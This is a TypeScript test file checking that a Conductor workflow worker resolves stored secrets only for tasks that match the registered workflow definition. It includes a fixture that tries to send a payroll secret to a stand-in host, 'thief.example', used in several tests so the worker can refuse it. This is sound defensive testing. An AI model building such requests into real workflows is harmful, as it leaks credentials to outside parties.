// Tests how the worker finds the registered workflow definition of a task.
import { afterEach, describe, expect, test, vi } from 'vitest';
import { registeredDefinitions } from '../../src/conductor/registered-definition.ts';
import { type DefinitionsAt, Denied, InvalidTask, Unreachable } from '../../src/conductor/task.ts';
import type { Json, JsonObject } from '../../src/primitives/json.ts';
import type { PolledTask as Task } from '../../src/worker/conductor.ts';
import { withDefinition } from '../../src/worker/with-definition.ts';

const HTTP = 'HTTP_WITH_SECRETS';
const SECRET = { http_request: { uri: 'https://post.example/', headers: { a: '${workflow.secrets.token}' } } };
const STOLEN = { http_request: { uri: 'https://thief.example/', headers: { a: '${workflow.secrets.payroll}' } } };
const NO_SECRET = { http_request: { uri: 'https://post.example/', body: '${workflow.input.x}' } };

const written = (taskReferenceName: string, more: JsonObject = {}): JsonObject => ({
  ...{ name: 'call', taskReferenceName, type: HTTP, inputParameters: SECRET },
  ...more,
});
const workflow = (tasks: JsonObject[], more: JsonObject = {}): JsonObject => ({
  name: 'w',
  version: 1,
  tasks,
  ...more,
});
const handedOut = (workflowTask: JsonObject, referenceTaskName = workflowTask.taskReferenceName as string): Task => ({
  ...{ taskId: 't', workflowInstanceId: 'x', referenceTaskName, pollCount: 1, scheduledTime: undefined },
  ...{ inputData: workflowTask.inputParameters, workflowTask },
});

interface Shown {
  started?: JsonObject;
  registered?: JsonObject;
  task?: JsonObject;
}
/** A server that responds with the bodies in the argument and records its requests. */
function server(shown: Shown): DefinitionsAt & { shown: Shown; asked: string[] } {
  const asked: string[] = [];
  return {
    ...{ shown, asked },
    async execution(id) {
      asked.push(`execution ${id}`);
      return shown.started && { workflowId: id, workflowDefinition: shown.started };
    },
    async workflow(name, version) {
      asked.push(`workflow ${name} ${version}`);
      return shown.registered;
    },
    async task(name) {
      asked.push(`task ${name}`);
      return shown.task;
    },
  };
}
/** A server with the registered workflow definition `definition` and a running execution of this workflow. */
const registered = (definition: JsonObject) => server({ started: definition, registered: definition });
const definitionOf = async (at: DefinitionsAt, task: Task, type = HTTP, unregistered: 'refuse' | 'allow' = 'refuse') =>
  (await registeredDefinitions(at, { unregistered, setting: 'WORKER_UNREGISTERED=allow' }).of(type, task)).definition;
const refusal = async (...of: Parameters<typeof definitionOf>) => {
  const error = await definitionOf(...of).then(
    () => undefined,
    (error: unknown) => error,
  );
  expect(error).toBeInstanceOf(InvalidTask);
  return (error as InvalidTask).message;
};

afterEach(() => void vi.useRealTimers());

describe('a secret reference in a task of the registered workflow definition', () => {
  const call = written('call');
  const loop = (...loopOver: JsonObject[]) => written('loop', { type: 'DO_WHILE', inputParameters: {}, loopOver });
  const outer = loop(written('inner', { type: 'DO_WHILE', loopOver: [call] }));
  test.each<[string, JsonObject, string]>([
    ['in the list of tasks', call, 'call'],
    ['in a case of a SWITCH', written('which', { type: 'SWITCH', decisionCases: { prod: [call] } }), 'call'],
    ['in the default of a SWITCH', written('which', { type: 'SWITCH', defaultCase: [call] }), 'call'],
    ['in a branch of a FORK_JOIN', written('fork', { type: 'FORK_JOIN', forkTasks: [[], [call]] }), 'call'],
    ['in a loop', loop(call), 'call__12'],
    ['in a SWITCH in a loop', loop(written('which', { type: 'SWITCH', decisionCases: { prod: [call] } })), 'call__1'],
    ['in a loop in a loop', outer, 'call__2'],
    ['in a loop in a loop, with both iterations', outer, 'call__2__3'],
  ])('the worker resolves a secret reference %s', async (_, task, scheduled) => {
    const other = written('other', { inputParameters: NO_SECRET });
    expect(await definitionOf(registered(workflow([other, task])), handedOut(call, scheduled))).toEqual(SECRET);
  });

  test('the worker resolves a secret reference in a SIMPLE task whose name equals a task type of the worker', async () => {
    const simple = written('call', { type: 'SIMPLE', name: HTTP });
    expect(await definitionOf(registered(workflow([simple])), handedOut(simple))).toEqual(SECRET);
  });

  test('the worker resolves a secret reference in a DYNAMIC task, and ignores the task definition that workflow data selected', async () => {
    const dynamic = written('call', { type: 'DYNAMIC', name: 'some' });
    const taskDefinition = { inputTemplate: { http_request: STOLEN, more: '${workflow.secrets.payroll}' } };
    const polled = handedOut({ ...dynamic, name: HTTP, taskDefinition });
    expect(await definitionOf(registered(workflow([dynamic])), polled)).toEqual(SECRET);
  });

  test('the worker resolves a secret reference in the input template of a registered task definition', async () => {
    const bare = written('call', { inputParameters: { more: 1 } });
    const taskDefinition = { name: 'call', inputTemplate: SECRET };
    const complete = { ...bare, taskDefinition };
    const at = server({ started: workflow([complete]), registered: workflow([bare]), task: taskDefinition });
    expect(await definitionOf(at, handedOut(complete))).toEqual({ ...SECRET, more: 1 });
    expect(at.asked).toEqual(['execution x', 'workflow w 1', 'task call']);

    at.shown.task = { name: 'call', inputTemplate: { ...SECRET, uri: 'https://other.example/' } };
    expect(await refusal(at, handedOut(complete))).toContain('differs from the registered');
    at.shown.registered = workflow([{ ...bare, taskDefinition }]);
    expect(await definitionOf(at, handedOut(complete))).toEqual({ ...SECRET, more: 1 });
  });
});

describe('a secret reference outside the registered workflow definition', () => {
  const call = written('call');

  test('the worker resolves no secret reference in a task that a dynamic fork created', async () => {
    const at = registered(workflow([call]));
    for (const name of ['_call_0', 'forked', 'call__1', 'cal', '', 'call__', 'call__1x'])
      expect(await refusal(at, handedOut(written(name)))).toContain(
        'the workflow definition does not contain this task',
      );
  });

  test('the worker resolves no secret reference in a task with the name, but not the content, of a registered task', async () => {
    const at = registered(workflow([call]));
    for (const more of [
      { inputParameters: STOLEN },
      { inputParameters: { http_request: { ...SECRET.http_request, uri: 'https://thief.example/' } } },
      { inputParameters: { ...SECRET, outputFilter: {} } },
      { taskDefinition: { inputTemplate: { outputFilter: {} } } },
      { name: 'other' },
      { type: 'SIMPLE', name: HTTP },
      { type: 'DYNAMIC' },
    ] as JsonObject[])
      expect(await refusal(at, handedOut({ ...call, ...more }))).toContain(
        'the task differs from the task with this reference name',
      );
  });

  test('if the registered workflow definition contains a different type for a task, the worker resolves no secret reference in this task', async () => {
    for (const other of [{ type: 'HTTP' }, { type: 'SIMPLE' }, { type: 'UPDATE_SECRET' }])
      expect(await refusal(registered(workflow([{ ...call, ...other }])), handedOut({ ...call, ...other }))).toContain(
        "the task's type in the workflow definition is not HTTP_WITH_SECRETS",
      );
  });

  test('if the workflow definition of an execution differs from the registered one, the worker resolves no secret reference', async () => {
    for (const other of [
      workflow([written('call', { inputParameters: NO_SECRET })]),
      workflow([written('call', { inputParameters: STOLEN })]),
      workflow([written('call', { name: 'other' })]),
      workflow([written('other')]),
      workflow([]),
    ]) {
      const at = server({ started: workflow([call]), registered: other });
      expect(await refusal(at, handedOut(call))).toContain('differs from the registered workflow "w", version 1');
      expect(await refusal(at, handedOut(call), HTTP, 'allow')).toContain(
        'differs from the registered workflow "w", version 1',
      );
    }
  });

  test('if a workflow definition is not registered, the worker resolves no secret reference, unless a setting allows unregistered workflow definitions', async () => {
    const at = server({ started: workflow([call]) });
    expect(await refusal(at, handedOut(call))).toContain('WORKER_UNREGISTERED=allow');
    expect(await definitionOf(at, handedOut(call), HTTP, 'allow')).toEqual(SECRET);
    expect(await refusal(at, handedOut(written('forked')), HTTP, 'allow')).toContain('does not contain this task');
    expect(await refusal(at, handedOut({ ...call, inputParameters: STOLEN }), HTTP, 'allow')).toContain(
      'differs from the task with this reference name',
    );
    for (const other of [workflow([call], { name: 'v' }), workflow([call], { version: 2 }), {}]) {
      at.shown.registered = other;
      expect(await refusal(at, handedOut(call))).toContain('WORKER_UNREGISTERED=allow');
    }
    at.shown.started = { tasks: [call] };
    expect(await refusal(at, handedOut(call))).toContain('WORKER_UNREGISTERED=allow');
  });

  test('the worker resolves no secret reference in a sub-workflow whose definition is inside its parent workflow', async () => {
    const subWorkflowParam = { name: 'child', version: 1, workflowDefinition: workflow([call], { name: 'child' }) };
    const parent = workflow([written('sub', { type: 'SUB_WORKFLOW', inputParameters: {}, subWorkflowParam })]);
    expect(await refusal(registered(parent), handedOut(call))).toContain('does not contain this task');
    expect(await refusal(server({ started: subWorkflowParam.workflowDefinition }), handedOut(call))).toContain(
      'workflow "child", version 1 is not registered',
    );
  });

  test('if several tasks have the same reference name, the worker resolves no secret reference', async () => {
    const twice = workflow([call, written('which', { type: 'SWITCH', defaultCase: [call] })]);
    expect(await refusal(registered(twice), handedOut(call))).toContain('several tasks');
    const at = server({ started: workflow([call]), registered: twice });
    expect(await refusal(at, handedOut(call))).toContain('several tasks');
  });

  test('if the Conductor server does not know the workflow execution, the worker resolves no secret reference', async () => {
    expect(await refusal(server({}), handedOut(call))).toContain('returned no execution');
  });

  test('if the Conductor server denies access to workflow definitions or does not answer, the worker resolves no secret reference', async () => {
    const work = withDefinition(
      HTTP,
      registeredDefinitions(
        { ...registered(workflow([call])), workflow: () => Promise.reject(new Denied(403)) },
        { unregistered: 'refuse' },
      ),
      () => expect.unreachable(),
    );
    const { signal } = new AbortController();
    const denied = await work(handedOut(call), signal);
    expect(denied.status).toBe('FAILED_WITH_TERMINAL_ERROR');
    expect(denied.reason).toContain('workflow definitions (HTTP 403)');
    const away = { ...registered(workflow([call])), execution: () => Promise.reject(new Unreachable()) };
    const later = withDefinition(HTTP, registeredDefinitions(away, { unregistered: 'allow' }), () =>
      expect.unreachable(),
    );
    expect((await later(handedOut(call), signal)).status).toBe('FAILED');
  });
});

test('if only the name of a task looks like a loop iteration, the worker does not treat the task as a loop iteration', async () => {
  const inLoop = written('call');
  const other = written('call__1', { inputParameters: { http_request: { ...SECRET.http_request, body: 'other' } } });
  const at = registered(
    workflow([written('loop', { type: 'DO_WHILE', inputParameters: {}, loopOver: [inLoop] }), other]),
  );
  expect(await definitionOf(at, handedOut(inLoop, 'call__1'))).toEqual(inLoop.inputParameters);
  expect(await definitionOf(at, handedOut(other))).toEqual(other.inputParameters);
  expect(await refusal(at, handedOut({ ...inLoop, taskReferenceName: 'call__1' }))).toContain(
    'differs from the task with this reference name',
  );
});

describe('UPDATE_SECRET tasks and the registered workflow definition', () => {
  const store = written('store', {
    type: 'UPDATE_SECRET',
    inputParameters: { _secrets: { secretKey: 'token', secretValue: '1' } },
  });

  test('the worker runs an UPDATE_SECRET task of a registered workflow definition, with or without secret references', async () => {
    expect(await definitionOf(registered(workflow([store])), handedOut(store), 'UPDATE_SECRET')).toEqual(
      store.inputParameters,
    );
  });

  test('the worker refuses an UPDATE_SECRET task that is outside the registered workflow definition, or that has no workflow definition', async () => {
    const at = registered(workflow([store]));
    const forked = { ...store, taskReferenceName: '_store_0' };
    expect(await refusal(at, handedOut(forked), 'UPDATE_SECRET')).toContain('does not contain this task');
    const other = { ...store, inputParameters: { _secrets: { secretKey: 'payroll', secretValue: '1' } } };
    expect(await refusal(at, handedOut(other), 'UPDATE_SECRET')).toContain(
      'differs from the task with this reference name',
    );
    expect(await refusal(at, { ...handedOut(store), workflowTask: undefined }, 'UPDATE_SECRET')).toContain(
      'differs from the task with this reference name',
    );
  });
});

describe('the worker compares all tasks of the execution with the registered workflow definition', () => {
  const keep = written('keep', {
    ...{ name: 'keep', type: 'UPDATE_SECRET' },
    inputParameters: { _secrets: { secretKey: 'token', secretValue: '${fetch.output.response.body.token}' } },
  });
  const fetch = written('fetch', { name: 'fetch' });
  const approve = written('approve', { name: 'approve', type: 'HUMAN', inputParameters: {} });
  const sub = written('sub', { name: 'sub', type: 'SUB_WORKFLOW', subWorkflowParam: { name: 'child', version: 2 } });
  const within = (task: JsonObject): [string, JsonObject][] => [
    ['a SWITCH', written('in', { type: 'SWITCH', decisionCases: { a: [approve], b: [task] } })],
    ['the default of a SWITCH', written('in', { type: 'SWITCH', defaultCase: [task] })],
    ['a FORK_JOIN', written('in', { type: 'FORK_JOIN', forkTasks: [[approve], [task]] })],
    ['a DO_WHILE', written('in', { type: 'DO_WHILE', loopOver: [task] })],
  ];
  const rotate = workflow([fetch, approve, sub, keep]);
  const inline = { ...fetch, type: 'INLINE', inputParameters: { expression: '({token: 1})' } };
  const differing = async (started: JsonObject, registered = rotate, task?: JsonObject) => {
    const at = server({ started, registered, ...(task !== undefined && { task }) });
    const [first, again] = [
      await refusal(at, handedOut(keep), 'UPDATE_SECRET'),
      await refusal(at, handedOut(keep), 'UPDATE_SECRET', 'allow'),
    ];
    expect(again).toBe(first);
    return first;
  };

  test.each<[string, JsonObject[], string]>([
    ['a task before the UPDATE_SECRET task does other work', [inline, approve, sub, keep], 'fetch'],
    ['an approval is missing', [fetch, sub, keep], 'approve'],
    ['an approval comes after the UPDATE_SECRET task', [fetch, sub, keep, approve], 'approve'],
    ['an approval is done by another party', [fetch, { ...approve, type: 'WAIT' }, sub, keep], 'approve'],
    ['an approval may fail', [fetch, { ...approve, optional: true }, sub, keep], 'approve'],
    ['a task is new', [fetch, approve, sub, keep, { ...inline, taskReferenceName: 'more' }], 'more'],
    [
      'another sub-workflow replaces the registered sub-workflow',
      [fetch, approve, { ...sub, subWorkflowParam: { name: 'own', version: 2 } }, keep],
      'sub',
    ],
    [
      'a sub-workflow has another workflow version',
      [fetch, approve, { ...sub, subWorkflowParam: { name: 'child', version: 1 } }, keep],
      'sub',
    ],
    [
      'the definition of a sub-workflow is inlined',
      [fetch, approve, { ...sub, subWorkflowParam: { name: 'child', version: 2, workflowDefinition: rotate } }, keep],
      'sub',
    ],
    [
      'a task has other default inputs',
      [{ ...fetch, taskDefinition: { inputTemplate: { more: 1 } } }, approve, sub, keep],
      'fetch',
    ],
  ])('the worker does not run an UPDATE_SECRET task of a workflow in which %s', async (_, tasks, place) => {
    expect(await differing(workflow(tasks))).toContain(`("tasks: ${place}")`);
  });

  test.each(within(fetch))(
    'the worker compares the tasks within %s with the tasks of the registered workflow definition',
    async (_, outer) => {
      const [, changed] =
        within(inline).find(
          ([, { type, defaultCase }]) => type === outer.type && !defaultCase === !outer.defaultCase,
        ) ?? [];
      expect(changed).toBeDefined();
      const complete = workflow([outer, keep]);
      expect(await definitionOf(registered(complete), handedOut(keep), 'UPDATE_SECRET')).toEqual(keep.inputParameters);
      expect(await differing(workflow([changed ?? {}, keep]), complete)).toContain('("tasks: in")');
      expect(
        await differing(
          workflow([{ ...outer, decisionCases: {}, defaultCase: [], forkTasks: [], loopOver: [] }, keep]),
          complete,
        ),
      ).toContain('("tasks: in")');
    },
  );

  test.each<[string, Json]>([
    ['inputTemplate', { a: 1 }],
    ['inputParameters', ['a']],
    ['inputSchema', { name: 's', version: 1 }],
    ['enforceSchema', false],
    ['variables', { token: 'mine' }],
    ['outputParameters', { a: '${fetch.output}' }],
    ['failureWorkflow', 'own'],
    ['schemaVersion', 1],
  ])('the worker compares %s of the workflow with the registered workflow definition', async (name, value) => {
    expect(await differing({ ...rotate, [name]: value })).toContain(`("${name}")`);
    expect(await differing(rotate, { ...rotate, [name]: value })).toContain(`("${name}")`);
    const both = registered({ ...rotate, [name]: value });
    expect(await definitionOf(both, handedOut(keep), 'UPDATE_SECRET')).toEqual(keep.inputParameters);
  });

  test('the worker compares the inputTemplate of every task with the registered task definition', async () => {
    const template = { name: 'fetch', inputTemplate: { more: '${workflow.input.more}' } };
    const of = (taskDefinition: JsonObject) =>
      workflow([fetch, approve, sub, keep].map((task) => ({ ...task, taskDefinition })));
    const at = server({ started: of(template), registered: rotate, task: template });
    expect(await definitionOf(at, handedOut({ ...keep, taskDefinition: template }), 'UPDATE_SECRET')).toEqual({
      ...template.inputTemplate,
      ...(keep.inputParameters as JsonObject),
    });
    expect(at.asked.sort()).toEqual(
      ['execution x', 'task approve', 'task fetch', 'task keep', 'task sub', 'workflow w 1'].sort(),
    );
    expect(await differing(of({ name: 'fetch', inputTemplate: {} }), rotate, template)).toContain('("tasks: fetch")');
    const onlyKeep = workflow([fetch, approve, sub, { ...keep, taskDefinition: template }]);
    expect(
      await refusal(
        server({ started: onlyKeep, registered: rotate, task: template }),
        handedOut({ ...keep, taskDefinition: template }),
        'UPDATE_SECRET',
      ),
    ).toContain('("tasks: fetch")');
  });

  test('the worker treats a workflow definition that a workflow engine only completed as equal to the registered workflow definition', async () => {
    const dynamic = written('dynamic', { name: 'some', type: 'DYNAMIC', dynamicTaskNameParam: 'type' });
    const latest = { ...sub, subWorkflowParam: { name: 'child' } };
    const bare = workflow([fetch, approve, latest, dynamic, keep]);
    const empty = { decisionCases: {}, defaultCase: [], forkTasks: [], loopOver: [], joinOn: [], description: null };
    const completed = (task: JsonObject) => ({
      ...{ ...empty, ...task },
      taskDefinition: { name: task.name ?? null, retryCount: 0, inputKeys: [], inputTemplate: {} },
    });
    const started = {
      ...{ ...bare, inputTemplate: {}, variables: {}, updateTime: 0, failureWorkflow: null },
      tasks: [
        fetch,
        approve,
        { ...sub, subWorkflowParam: { name: 'child', version: 7 } },
        { ...dynamic, name: HTTP },
        keep,
      ].map(completed),
    };
    const at = server({ started, registered: { ...bare, inputParameters: [], createTime: 5, ownerEmail: 'a' } });
    expect(await definitionOf(at, handedOut(completed(keep)), 'UPDATE_SECRET')).toEqual(keep.inputParameters);
    expect(await definitionOf(at, handedOut(completed(fetch)))).toEqual(fetch.inputParameters);
  });

  test('HTTP and EVENT tasks may differ from the registered workflow definition only in the input parameters that workflow engines set', async () => {
    const http = written('http', { type: 'HTTP', inputParameters: { uri: 'https://a.example/' } });
    const event = written('event', { type: 'EVENT', sink: 'conductor', inputParameters: { a: 1 } });
    const plain = written('plain', { type: 'SIMPLE', inputParameters: { a: 1 } });
    const withMore = (task: JsonObject, more: JsonObject) => ({
      ...task,
      inputParameters: { ...(task.inputParameters as JsonObject), ...more },
    });
    const all = workflow([http, event, plain, keep]);
    const set = { asyncComplete: false, sink: 'conductor' };
    const scheduled = [withMore(http, { asyncComplete: false }), withMore(event, set), plain, keep];
    expect(
      await definitionOf(server({ started: workflow(scheduled), registered: all }), handedOut(keep), 'UPDATE_SECRET'),
    ).toEqual(keep.inputParameters);
    for (const tasks of [
      [withMore(http, { asyncComplete: true }), event, plain, keep],
      [withMore(http, { asyncComplete: false, uri: 'https://b.example/' }), event, plain, keep],
      [withMore(http, set), event, plain, keep],
      [http, withMore(event, { ...set, sink: 'own' }), plain, keep],
      [http, event, withMore(plain, { asyncComplete: false }), keep],
    ])
      expect(await differing(workflow(tasks), all)).toMatch(/\("tasks: (?:http|event|plain)"\)/);
  });

  test('if any task differs from the registered workflow definition, the worker resolves no secret reference of an HTTP task in the workflow', async () => {
    const at = server({ started: workflow([fetch, sub, keep]), registered: rotate });
    expect(await refusal(at, handedOut(fetch))).toContain('("tasks: approve")');
  });

  test('the worker compares two workflow definitions once for several tasks, and compares them again after it reads the registered one again', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const at = registered(rotate);
    const definitions = registeredDefinitions(at, { unregistered: 'refuse' });
    await definitions.of('UPDATE_SECRET', handedOut(keep));
    const asked = at.asked.length;
    await definitions.of(HTTP, handedOut(fetch));
    expect(at.asked).toHaveLength(asked);
    vi.setSystemTime(Date.now() + 5_000);
    at.shown.registered = workflow([inline, approve, sub, keep]);
    await expect(definitions.of('UPDATE_SECRET', handedOut(keep))).rejects.toBeInstanceOf(InvalidTask);
  });

  test('if a workflow contains a dynamic fork, the worker does not run its UPDATE_SECRET task, because the fork can copy the task with a different value', async () => {
    const fork = written('fork', { type: 'FORK_JOIN_DYNAMIC', inputParameters: {}, dynamicForkTasksParam: 'tasks' });
    for (const outer of [fork, ...within(fork).map(([, task]) => task)]) {
      const forking = workflow([fetch, outer, keep]);
      expect(await refusal(registered(forking), handedOut(keep), 'UPDATE_SECRET')).toContain('FORK_JOIN_DYNAMIC');
      expect(await definitionOf(registered(forking), handedOut(fetch))).toEqual(fetch.inputParameters);
    }
  });
});

describe('reading workflow definitions from the Conductor server', () => {
  const call = written('call');

  test('if a task contains no secret reference, the worker reads no workflow definition', async () => {
    const at = registered(workflow([call]));
    const task = handedOut(written('forked', { inputParameters: NO_SECRET }));
    expect(await definitionOf(at, task)).toEqual(NO_SECRET);
    expect(await definitionOf(at, { ...task, workflowTask: undefined })).toBeUndefined();
    // The worker reads no workflow definition even if workflow data looks like a secret reference.
    expect(await definitionOf(at, { ...task, inputData: STOLEN })).toEqual(NO_SECRET);
    expect(at.asked).toEqual([]);
  });

  test('a missing task definition is remembered for 60 seconds, or until task definitions are registered', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const at = registered(workflow([call]));
    const definitions = registeredDefinitions(at, { unregistered: 'refuse' });
    const reads = async () => {
      await definitions.registered('w', 1);
      return at.asked.filter((text) => text === 'task call').length;
    };
    expect(await reads()).toBe(1);
    vi.setSystemTime(Date.now() + 59_999);
    expect(await reads()).toBe(1);
    vi.setSystemTime(Date.now() + 1);
    expect(await reads()).toBe(2);
    definitions.taskDefinitionsChanged();
    expect(await reads()).toBe(3);
    at.shown.task = { name: 'call', inputTemplate: { a: 1 } };
    definitions.taskDefinitionsChanged();
    expect(await definitions.registered('w', 1)).toMatchObject({ tasks: [{ taskDefinition: at.shown.task }] });
  });

  test('a missing task definition is remembered for only 5 seconds where definitions are checked', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const at = server({});
    const definitions = registeredDefinitions(at, { unregistered: 'refuse' });
    await definitions.taskDefinitions(['call']);
    vi.setSystemTime(Date.now() + 4_999);
    await definitions.taskDefinitions(['call']);
    expect(at.asked).toHaveLength(1);
    vi.setSystemTime(Date.now() + 1);
    await definitions.taskDefinitions(['call']);
    expect(at.asked).toHaveLength(2);
  });

  test('a read that began before a registration does not hide the registered task definition', async () => {
    const at = registered(workflow([call]));
    let isRead = (_: undefined) => {};
    const slow = { ...at, task: () => new Promise<undefined>((done) => (isRead = done)) };
    const definitions = registeredDefinitions(slow, { unregistered: 'refuse' });
    const first = definitions.taskDefinition('call');
    definitions.taskDefinitionsChanged();
    isRead(undefined);
    expect(await first).toBeUndefined();
    const second = definitions.taskDefinition('call');
    isRead({ name: 'call' } as never);
    expect(await second).toEqual({ name: 'call' });
  });

  test('a missing execution is never remembered', async () => {
    const at = server({});
    const definitions = registeredDefinitions(at, { unregistered: 'refuse' });
    await definitions.execution('x');
    await definitions.execution('x');
    expect(at.asked).toEqual(['execution x', 'execution x']);
  });

  test('concurrent tasks share one read of a workflow definition, and the worker reads the workflow definition again after five seconds', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const at = registered(workflow([call]));
    const definitions = registeredDefinitions(at, { unregistered: 'refuse' });
    await Promise.all(Array.from({ length: 20 }, () => definitions.of(HTTP, handedOut(call))));
    expect(at.asked).toEqual(['execution x', 'workflow w 1', 'task call']);
    vi.setSystemTime(Date.now() + 4_999);
    await definitions.of(HTTP, handedOut(call));
    expect(at.asked).toHaveLength(3);
    vi.setSystemTime(Date.now() + 1);
    at.shown.registered = workflow([]);
    await expect(definitions.of(HTTP, handedOut(call))).rejects.toBeInstanceOf(InvalidTask);
  });

  test('before the worker refuses a task, it reads the workflow definition again, because a restart may use a newer version', async () => {
    const at = registered(workflow([call]));
    const definitions = registeredDefinitions(at, { unregistered: 'refuse' });
    await definitions.of(HTTP, handedOut(call));
    const newer = written('call', { inputParameters: { ...SECRET, more: 1 } });
    at.shown.started = at.shown.registered = workflow([newer]);
    expect((await definitions.of(HTTP, handedOut(newer))).definition).toEqual(newer.inputParameters);
    await expect(definitions.of(HTTP, handedOut(call))).rejects.toBeInstanceOf(InvalidTask);
  });

  test('if the Conductor server failed to answer, the worker reads the workflow definition again', async () => {
    const at = registered(workflow([call]));
    let away = true;
    const execution = (id: string) => (away ? Promise.reject(new Unreachable()) : at.execution(id));
    const definitions = registeredDefinitions({ ...at, execution }, { unregistered: 'refuse' });
    await expect(definitions.of(HTTP, handedOut(call))).rejects.toBeInstanceOf(Unreachable);
    away = false;
    expect((await definitions.of(HTTP, handedOut(call))).definition).toEqual(SECRET);
  });

  test('after its cache evicted a workflow execution, the worker reads the execution again', async () => {
    const at = registered(workflow([call], { description: 'x'.repeat(1_000_000) }));
    const definitions = registeredDefinitions(at, { unregistered: 'refuse' });
    const executions = () => at.asked.filter((what) => what.startsWith('execution')).length;
    const used = (workflowInstanceId: string) => definitions.of(HTTP, { ...handedOut(call), workflowInstanceId });
    for (let i = 0; i < 5; i++) await used(`x${i}`);
    await used('x4');
    expect(executions()).toBe(5);
    await used('x0');
    expect(executions()).toBe(6);
  });
});
